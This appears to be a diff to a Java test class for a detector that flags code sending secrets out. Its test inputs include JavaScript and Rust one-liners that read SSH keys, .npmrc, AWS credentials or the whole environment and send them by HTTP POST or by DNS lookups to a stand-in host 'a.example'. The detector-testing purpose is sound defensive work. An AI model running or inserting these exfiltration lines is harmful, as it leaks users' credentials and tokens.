@@ -46,6 +46,13 @@ class ProgramFileTest {
                 "fetch(u,{method:'POST',body:fs.readFileSync(path.join(os.homedir(),'.ssh','id_rsa'))})",
                 "fetch(u,{method:'POST',body:fs.readFileSync('/root/.npmrc')})",
                 "const p = path.join(os.homedir(), '.npmrc');\nconst d = fs.readFileSync(p, 'utf8');\naxios.post(u, {d});",
+                "let d=Buffer.from(JSON.stringify({e:process.env,h:os.hostname()})).toString('base64');\n"
+                        + "https.get('https://a.example/c?d='+encodeURIComponent(d))",
+                "const e=process.env;const k=Object.keys(e).map(x=>x+'='+e[x]).join('\\n');fetch(u,{method:'POST',body:k})",
+                "const w=execSync('cat ~/.npmrc ~/.aws/credentials').toString();fetch(u,{method:'POST',body:w})",
+                "fetch(u,{method:'POST',body:execSync('printenv | base64')})",
+                "dns.lookup(Buffer.from(process.env.NPM_TOKEN).toString('hex')+'.a.example',()=>{})",
+                "const n=Buffer.from(process.env.T).toString('hex');require('dns').lookup(n+'.a.example',()=>{})",
             })
     void whatIsGivenAway(String program) {
         assertThat(kinds(program)).containsExactly(Kind.SENDS_SECRETS);
@@ -66,9 +73,31 @@ class ProgramFileTest {
                 "const rc = fs.readFileSync('.npmrc', 'utf8');\nconst r = rc.match(/registry=(.*)/)[1];\nfetch(r);",
                 "const c = JSON.parse(fs.readFileSync(os.homedir() + '/.docker/config.json'));\nfetch(u, {body: c.name});",
                 "fs.readFile(os.homedir() + '/.npmrc', 'utf8', (e, d) => parse(d));\nfetch(u);",
+                "const e=process.env;const k=Object.keys(e).filter(x=>x.startsWith('CI')).join();fetch(u,{body:k})",
+                "const e=process.env;const k=Object.keys(a).map(x=>x+'='+a[x]).join();fetch(u,{body:k})",
+                "const w=execSync('cat ~/.npmrc | grep registry').toString();fetch(u,{method:'POST',body:w})",
+                "const w=execSync('git rev-parse HEAD').toString();fetch(u,{method:'POST',body:w})",
+                "dns.lookup(process.env.HOST,()=>{})",
+                "dns.lookup(Buffer.from(name).toString('hex')+'.a.example',()=>{})",
             })
     void whatIsOnlyLookedAtIsNotGivenAway(String program) {
         assertThat(kinds(program)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '~',
+            value = {
+                "let e: HashMap<String,String> = std::env::vars().collect(); C::new().post(u).json(&e).send().unwrap(); ~ SENDS_SECRETS",
+                "let e = format!(\"{:?}\", env::vars()); ureq::post(u).send_string(&e).unwrap();                         ~ SENDS_SECRETS",
+                "for (k, v) in env::vars() { println!(\"{k}={v}\"); } let r = ureq::get(u).call();                       ~ ''",
+                "let e: Vec<_> = cfg::vars().collect(); C::new().post(u).json(&e).send().unwrap();                        ~ ''",
+            })
+    void whatRustGivesAway(String program, String kinds) {
+        assertThat(CommandJudge.ofFile(program, Language.RUST).stream()
+                        .map(each -> each.kind().name())
+                        .toList())
+                .isEqualTo(kinds.isEmpty() ? List.of() : List.of(kinds));
     }
 
     @ParameterizedTest
